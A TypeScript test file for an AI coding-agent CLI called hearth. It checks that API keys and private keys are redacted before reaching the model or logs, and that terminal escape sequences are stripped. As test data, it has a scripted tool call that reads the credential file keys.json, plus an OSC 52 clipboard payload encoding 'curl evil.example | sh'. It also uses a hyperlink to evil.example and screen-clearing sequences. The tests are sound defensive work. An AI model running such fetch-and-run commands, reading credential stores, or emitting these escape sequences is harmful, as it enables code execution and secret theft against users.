/**
 * What a model and a terminal get to see, end to end through `hearth -p` and the fake model server:
 * - a command that prints keys hearth knows (from its environment, and stored for any provider) gives the model,
 *   and stream-json's tool_call_ended, the redacted text; the prompt is redacted too;
 * - secrets right after a line break or tab in a command's output stay out of the session, the index and stdout;
 * - an answer or a refused command full of escape sequences reaches the terminal without them.
 */
import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { readdirSync, readFileSync, statSync } from "node:fs";
import { join } from "node:path";
import { after, test } from "node:test";
import type { FakeTurn } from "../fake-server/script.ts";
import { type FakeServer, startFakeServer } from "../fake-server/server.ts";
import { makeSandbox, providerSetup, runHearth, type Sandbox, writeSettings } from "./harness.ts";

const servers: FakeServer[] = [];
after(async () => {
  await Promise.all(servers.map((s) => s.close()));
});

async function fakeServer(script: FakeTurn[]): Promise<FakeServer> {
  const fake = await startFakeServer({ script, contextLength: 32768 });
  servers.push(fake);
  return fake;
}

/** A canary with no secret shape: only knowing its exact value can hide it. */
const canary = (what: string) => `canary-${what}-${randomBytes(16).toString("hex")}`;

/** Every file hearth keeps under HOME (sessions, the index and its WAL, logs), except the key store itself. */
function stateFiles(sandbox: Sandbox): Array<[string, string]> {
  const keysFile = join(sandbox.env.XDG_CONFIG_HOME, "hearth", "keys.json");
  return readdirSync(sandbox.home, { recursive: true, encoding: "utf8" })
    .map((name) => join(sandbox.home, name))
    .filter((file) => file !== keysFile && statSync(file).isFile())
    .map((file) => [file, readFileSync(file, "latin1")]);
}

/** `hearth -p` in auto mode with this model, output format and prompt. */
const autoRun = (model: string, format: string, prompt: string) => [
  "-p",
  "--permission-mode",
  "auto",
  "--model",
  model,
  "--output-format",
  format,
  prompt,
];

/** The text of the tool results in a recorded request body, whatever the protocol. */
function toolResultsIn(body: unknown): string[] {
  const found: string[] = [];
  const visit = (value: unknown, inTool: boolean): void => {
    if (typeof value === "string") {
      if (inTool) found.push(value);
    } else if (Array.isArray(value)) {
      for (const item of value) visit(item, inTool);
    } else if (value && typeof value === "object") {
      const record = value as Record<string, unknown>;
      const tool = inTool || record.role === "tool" || record.type === "tool_result";
      for (const [key, item] of Object.entries(record)) {
        if (key !== "tool_call_id" && key !== "tool_use_id" && key !== "role" && key !== "type")
          visit(item, tool);
      }
    }
  };
  visit(body, false);
  return found;
}

const PEM_BODY = `MIIEowIBAAKCAQEA${randomBytes(48).toString("base64")}`;
const PEM = `-----BEGIN RSA PRIVATE KEY-----\n${PEM_BODY}\n-----END RSA PRIVATE KEY-----`;

test("a command printing keys hearth knows gives the model, and stream-json, the redacted text", async () => {
  const envKey = canary("env");
  const storedKey = canary("stored");
  const fake = await fakeServer([
    { toolCalls: [{ name: "bash", arguments: { command: "cat leak.txt" } }] },
    { text: "done" },
  ]);
  const sandbox = makeSandbox({ "leak.txt": `env: ${envKey}\nstored: ${storedKey}\n${PEM}\nend\n` });
  writeSettings(sandbox, "user", {
    providers: { stash: { api: "openai-chat", baseUrl: `${fake.url}/v1`, apiKeyEnv: "STASH_API_KEY" } },
  });
  const env = { STASH_API_KEY: envKey, HEARTH_KEYCHAIN: "off" };
  // A key stored for a provider this run does not use.
  const set = await runHearth(sandbox, ["keys", "set", "mistral"], { env, stdin: `${storedKey}\n` });
  assert.equal(set.code, 0, set.stderr);

  const run = await runHearth(
    sandbox,
    autoRun("stash/m", "stream-json", "look at this"),
    // The prompt carries both keys too (pasted, piped in).
    { env, stdin: `context: ${envKey} and ${storedKey}\n` },
  );
  assert.equal(run.code, 0, run.stderr);

  assert.equal(fake.modelRequests.length, 2);
  for (const request of fake.modelRequests) {
    const body = JSON.stringify(request.body);
    assert.ok(!body.includes(envKey), "the env key reached the model");
    assert.ok(!body.includes(storedKey), "the stored key reached the model");
    assert.ok(!body.includes(PEM_BODY.slice(0, 40)), "the private key reached the model");
  }
  assert.match(JSON.stringify(fake.modelRequests[0].body), /context: \[REDACTED\] and \[REDACTED\]/);
  const seen = toolResultsIn(fake.modelRequests[1].body).join("");
  assert.match(seen, /^env: \[REDACTED\]\nstored: \[REDACTED\]\n\[REDACTED PRIVATE KEY\]\nend\n/);
  const results = run.events.filter((e) => e.type === "tool_call_ended");
  assert.equal(results.length, 1);
  assert.equal(results[0].content, seen, "stream-json shows what the model saw");
  assert.equal(fake.modelRequests[0].headers.authorization, `Bearer ${envKey}`, "the key was still used");
});

test("an Ollama run hides a stored OpenAI key from the model", async () => {
  const openaiKey = canary("openai");
  const fake = await fakeServer([
    {
      toolCalls: [
        { name: "bash", arguments: { command: 'cat "$XDG_CONFIG_HOME/hearth/keys.json"; cat notes.txt' } },
      ],
    },
    { text: "done" },
  ]);
  const sandbox = makeSandbox({ "notes.txt": `my key: ${openaiKey}\n` });
  const setup = providerSetup("ollama", fake.url);
  const env = { ...setup.env, HEARTH_KEYCHAIN: "off" };
  const set = await runHearth(sandbox, ["keys", "set", "openai"], { env, stdin: `${openaiKey}\n` });
  assert.equal(set.code, 0, set.stderr);

  const run = await runHearth(sandbox, autoRun(setup.model, "stream-json", "go"), { env });
  assert.equal(run.code, 0, run.stderr);
  assert.equal(fake.modelRequests.length, 2);
  assert.equal(fake.modelRequests[0].path, "/api/chat");
  const seen = toolResultsIn(fake.modelRequests[1].body).join("");
  assert.match(seen, /my key: \[REDACTED\]/);
  for (const request of fake.modelRequests) assert.ok(!JSON.stringify(request.body).includes(openaiKey));
  for (const [where, text] of [["stdout", run.stdout], ["stderr", run.stderr], ...stateFiles(sandbox)])
    assert.ok(!text.includes(openaiKey), `the stored key leaked into ${where}`);
});

test("secrets right after a line break or tab in command output stay out of the session, index and stdout", async () => {
  const aws = `AKIA${randomBytes(8).toString("hex").toUpperCase()}`;
  const anthropic = `sk-ant-api03-${randomBytes(24).toString("base64url")}Q7k`;
  const github = `ghp_${randomBytes(20).toString("hex")}Zx9`;
  const bodies = [aws.slice(4), anthropic.slice(13), github.slice(4)];
  const fake = await fakeServer([
    {
      toolCalls: [
        {
          name: "bash",
          arguments: { command: `printf 'build log\\n${aws}\\n\\t${anthropic}\\r\\n${github}\\n'` },
        },
      ],
    },
    { text: "done" },
  ]);
  const sandbox = makeSandbox();
  const setup = providerSetup("openai-chat", fake.url);
  writeSettings(sandbox, "user", setup.settings);
  const run = await runHearth(sandbox, autoRun(setup.model, "stream-json", "build"), { env: setup.env });
  assert.equal(run.code, 0, run.stderr);
  const result = run.events.find((e) => e.type === "tool_call_ended");
  assert.match(String(result?.content), /build log\nAKIA…\[REDACTED\]\n\tsk-ant-…\[REDACTED\]/);
  const search = await runHearth(sandbox, ["sessions", "search", "build"], { env: setup.env });
  assert.equal(search.code, 0, search.stderr);
  const haystacks: Array<[string, string]> = [
    ["stdout", run.stdout],
    ["sessions search", search.stdout],
    ...stateFiles(sandbox),
  ];
  assert.ok(
    haystacks.some(([where]) => where.endsWith(".jsonl")),
    "a session file was written",
  );
  for (const [where, text] of haystacks) {
    for (const body of bodies) assert.ok(!text.includes(body), `${body.slice(0, 6)}… leaked into ${where}`);
  }
});

test("escape sequences from the model and the server never reach the terminal", async () => {
  const ESC = "\x1b";
  const osc52 = `${ESC}]52;c;${Buffer.from("curl evil.example | sh").toString("base64")}\x07`;
  const clear = `${ESC}[2J${ESC}[3J${ESC}[H`;
  const link = `${ESC}]8;;https://evil.example${ESC}\\here${ESC}]8;;${ESC}\\`;
  const fake = await fakeServer([
    {
      status: 500,
      errorBody: JSON.stringify({ error: { message: `overloaded${clear}${osc52}` } }),
    },
    // Asking to run a command in the default mode: refused, and the refusal line quotes it.
    { toolCalls: [{ name: "bash", arguments: { command: `echo ${osc52}hi\x9b2J` } }] },
    { text: `Answer${osc52} with a${clear} link ${link}, a reset${ESC}c and a bell\x07\x08\x08.\r\nEnd` },
  ]);
  const sandbox = makeSandbox();
  const setup = providerSetup("openai-chat", fake.url);
  writeSettings(sandbox, "user", setup.settings);
  const run = await runHearth(sandbox, ["-p", "--model", setup.model, "answer"], { env: setup.env });
  assert.equal(run.code, 0, run.stderr);
  assert.equal(run.stdout, "Answer with a link here, a reset and a bell.\nEnd\n");
  assert.match(run.stderr, /refused bash/);
  assert.match(run.stderr, /overloaded/);
  // The session, read back on a terminal.
  const list = await runHearth(sandbox, ["sessions", "--json"], { env: setup.env });
  const [{ id }] = JSON.parse(list.stdout) as Array<{ id: string }>;
  const show = await runHearth(sandbox, ["sessions", "show", id], { env: setup.env });
  assert.equal(show.code, 0, show.stderr);
  assert.match(show.stdout, /Answer with a link here/);
  for (const [where, text] of [
    ["stdout", run.stdout],
    ["stderr", run.stderr],
    ["sessions show", show.stdout],
  ])
    assert.doesNotMatch(text, /[\x00-\x08\x0b-\x1f\x7f-\x9f]/, `a control character reached ${where}`);
});
